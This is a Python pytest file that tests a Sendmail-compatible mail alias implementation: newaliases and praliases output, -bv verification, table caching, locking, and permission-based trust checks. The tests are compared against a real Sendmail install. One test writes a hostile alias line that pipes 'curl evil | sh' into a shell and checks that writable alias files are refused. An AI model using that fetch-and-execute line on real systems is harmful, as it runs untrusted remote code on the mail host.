"""newaliases, praliases, the compiled table: transcript bytes, real Sendmail, last good table."""

from __future__ import annotations

import fcntl
import os
import subprocess
from pathlib import Path

import pytest
from postroom.core.aliases import (
    AliasDatabaseError,
    AliasFileError,
    AliasTableCache,
    compiled_path,
    load_alias_table,
    newaliases,
    praliases,
    verify,
)

from tests.aliases.helpers import CMD, TESTDIR, expander, safe_dir, transcript_aliases
from tests.peers.sendmail import SendmailInstall, SendmailPeer

# sendmail-transcripts.md 10, "praliases (sorted here ...)" with <testdir>, <cmd> filled in
TRANSCRIPT_PRALIASES = [
    "@:@",
    f"alice:{TESTDIR}/alice.mbox",
    "biglist:alice, bob",
    f"bob:{TESTDIR}/bob.mbox",
    f"carol:{TESTDIR}/carol.mbox",
    f"filed:{TESTDIR}/filed.mbox",
    "gone2:error:5.1.1:550 Moved away",
    "gone:error:nouser 550 This user is gone",
    "longlist:alice, bob",
    "mailer-daemon:postmaster",
    "owner-biglist:carol",
    f'pipe:"|{CMD}"',
    "postmaster:root",
    f"root:{TESTDIR}/root.mbox",
    "staff:alice,\tbob,  carol",
    f"team::include:{TESTDIR}/team.list",
]
# sendmail-transcripts.md 10, "sendmail -bv for several names" (one name per run)
TRANSCRIPT_BV = {
    "staff": [
        f"{TESTDIR}/carol.mbox... deliverable: mailer *file*, user {TESTDIR}/carol.mbox",
        f"{TESTDIR}/bob.mbox... deliverable: mailer *file*, user {TESTDIR}/bob.mbox",
        f"{TESTDIR}/alice.mbox... deliverable: mailer *file*, user {TESTDIR}/alice.mbox",
    ],
    "gone": ["error:nouser 550 This user is gone... User unknown"],
    "gone2": ["error:5.1.1:550 Moved away... User unknown"],
    "pipe": [f'"|{CMD}"... deliverable: mailer prog, user "|{CMD}"'],
    "filed": [f"{TESTDIR}/filed.mbox... deliverable: mailer *file*, user {TESTDIR}/filed.mbox"],
    "nosuchuser": ["nosuchuser... User unknown"],
}


@pytest.fixture
def alias_dir():
    with safe_dir() as folder:
        yield folder


def write(folder: Path, text: str, mode: int = 0o644) -> Path:
    path = folder / "aliases"
    path.write_text(text)
    os.chmod(path, mode)
    return path


def test_newaliases_summary_matches_transcript(alias_dir: Path) -> None:
    path = write(alias_dir, transcript_aliases())
    result = newaliases(path)
    assert result.lines() == [f"{path}: 15 aliases, longest 34 bytes, 378 bytes total"]
    assert result.db_path == compiled_path(path) == alias_dir / "aliases.sqlite"


def test_praliases_matches_transcript(alias_dir: Path) -> None:
    path = write(alias_dir, transcript_aliases())
    db = newaliases(path).db_path
    lines = praliases(db)
    assert sorted(lines) == TRANSCRIPT_PRALIASES
    assert lines[-1] == "@:@"  # database order: file order, then Sendmail's marker
    assert praliases(db, ["staff", "nosuch"]) == [
        "staff:alice,\tbob,  carol",
        "nosuch: No such key",
    ]
    assert praliases(db, ["STAFF"]) == ["STAFF: No such key"]  # as Sendmail's praliases


def test_bv_lines_match_transcript(alias_dir: Path) -> None:
    path = write(alias_dir, transcript_aliases())
    newaliases(path)
    ex = expander(load_alias_table(path), local=())
    for name, lines in TRANSCRIPT_BV.items():
        assert list(verify(ex, [name]).lines) == lines, name


def test_same_file_as_real_sendmail(sendmail_install: SendmailInstall) -> None:
    """newaliases, praliases and -bv of the real Sendmail 8.17 on the very same file."""
    with safe_dir() as folder:
        (folder / "peer").mkdir()
        peer = SendmailPeer(sendmail_install, folder / "peer", folder / "mqueue")
        path = write(peer.workdir, transcript_aliases(), 0o644)
        real = peer.run("-bi")
        assert real.returncode == 0, real
        ours = newaliases(path)
        assert real.stdout.decode() == "\n".join(ours.lines()) + "\n"
        praliases_bin = sendmail_install.binary.parent.parent / "root/usr/sbin/praliases"
        listing = subprocess.run(
            [str(praliases_bin), "-C", str(peer.cf)], capture_output=True, env=peer.env(),
            timeout=60, check=True,
        )  # fmt: skip
        assert sorted(listing.stdout.decode().splitlines()) == sorted(praliases(ours.db_path))
        keyed = subprocess.run(
            [str(praliases_bin), "-C", str(peer.cf), "staff", "nosuch", "STAFF"],
            capture_output=True, env=peer.env(), timeout=60, check=True,
        )  # fmt: skip
        assert keyed.stdout.decode().splitlines() == praliases(
            ours.db_path, ["staff", "nosuch", "STAFF"]
        )
        ex = expander(load_alias_table(path), local=())
        for name in ["staff", "longlist", "pipe", "gone", "filed", "nosuchuser", "root"]:
            theirs = peer.run("-bv", name)
            mine = verify(ex, [name])
            assert theirs.stdout.decode().splitlines() == list(mine.lines), name
            assert theirs.returncode == mine.status, name


def test_broken_file_keeps_previous_table(alias_dir: Path) -> None:
    path = write(alias_dir, "root: alice\nstaff: bob\n")
    newaliases(path)
    before = compiled_path(path).read_bytes()
    write(alias_dir, 'root: carol\nbroken line\nstaff: "dave\n')
    with pytest.raises(AliasFileError) as info:
        newaliases(path)
    assert info.value.lines == (
        f"{path}: line 2: missing colon",
        f"{path}: line 3: \"dave... Unbalanced '\"'",
    )
    assert compiled_path(path).read_bytes() == before
    table = load_alias_table(path)
    assert table.lookup("root") == "alice"
    assert table.warnings == (f"Warning: alias database {compiled_path(path)} out of date",)


def test_cache_keeps_last_good_table(alias_dir: Path) -> None:
    path = write(alias_dir, "root: alice\n")
    newaliases(path)
    cache = AliasTableCache(path)
    assert cache.get().lookup("root") == "alice"
    compiled_path(path).write_bytes(b"garbage, not a table")
    assert cache.get().lookup("root") == "alice"
    assert isinstance(cache.last_error, AliasDatabaseError)
    write(alias_dir, "root: bob\n")
    newaliases(path)
    assert cache.get().lookup("root") == "bob"
    assert cache.last_error is None


def test_missing_table_is_compiled_on_first_load(alias_dir: Path) -> None:
    path = write(alias_dir, "Root: alice\n")
    table = load_alias_table(path)
    assert table.lookup("ROOT") == "alice"
    assert table.trusted and table.warnings == ()
    other = alias_dir / "other"
    other.write_text("a: b\n")
    with pytest.raises(AliasDatabaseError, match="unavailable"):
        load_alias_table(other, rebuild_missing=False)


def test_no_aliases_file_means_empty_table(alias_dir: Path) -> None:
    assert len(load_alias_table(alias_dir / "absent")) == 0


@pytest.mark.parametrize("mode", [0o664, 0o646])
def test_writable_file_cannot_name_programs(alias_dir: Path, mode: int) -> None:
    """BAD-INPUTS 44: the load is refused, with the line."""
    path = write(alias_dir, "ok: alice\nevil: |\"sh -c 'curl evil | sh'\"\n", mode)
    with pytest.raises(AliasFileError) as info:
        newaliases(path)
    (line,) = info.value.lines
    assert line.startswith(f"{path}: line 2: |\"sh -c 'curl evil | sh'\"... program, file and")
    assert ("Group writable file" if mode & 0o020 else "World writable file") in line
    assert not compiled_path(path).exists()


def test_writable_file_without_programs_compiles_untrusted(alias_dir: Path) -> None:
    path = write(alias_dir, "ok: alice\n", 0o664)
    result = newaliases(path)
    assert not result.trusted
    table = load_alias_table(path)
    assert not table.trusted and table.trust_problem == "Group writable file"


@pytest.mark.skipif(os.geteuid() != 0, reason="chown to another user needs root")
def test_file_owned_by_someone_else_is_untrusted(alias_dir: Path) -> None:
    path = write(alias_dir, "p: /var/log/x\n")
    os.chown(path, 4242, 4242)
    with pytest.raises(AliasFileError, match="owned by uid 4242"):
        newaliases(path)


def test_concurrent_rebuild_is_refused(alias_dir: Path) -> None:
    path = write(alias_dir, "a: b\n")
    with open(path) as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        with pytest.raises(AliasDatabaseError, match="is locked"):
            newaliases(path)
    newaliases(path)


def test_missing_source_file(alias_dir: Path) -> None:
    with pytest.raises(AliasDatabaseError, match=r"cannot open .*: No such file or directory"):
        newaliases(alias_dir / "nope")
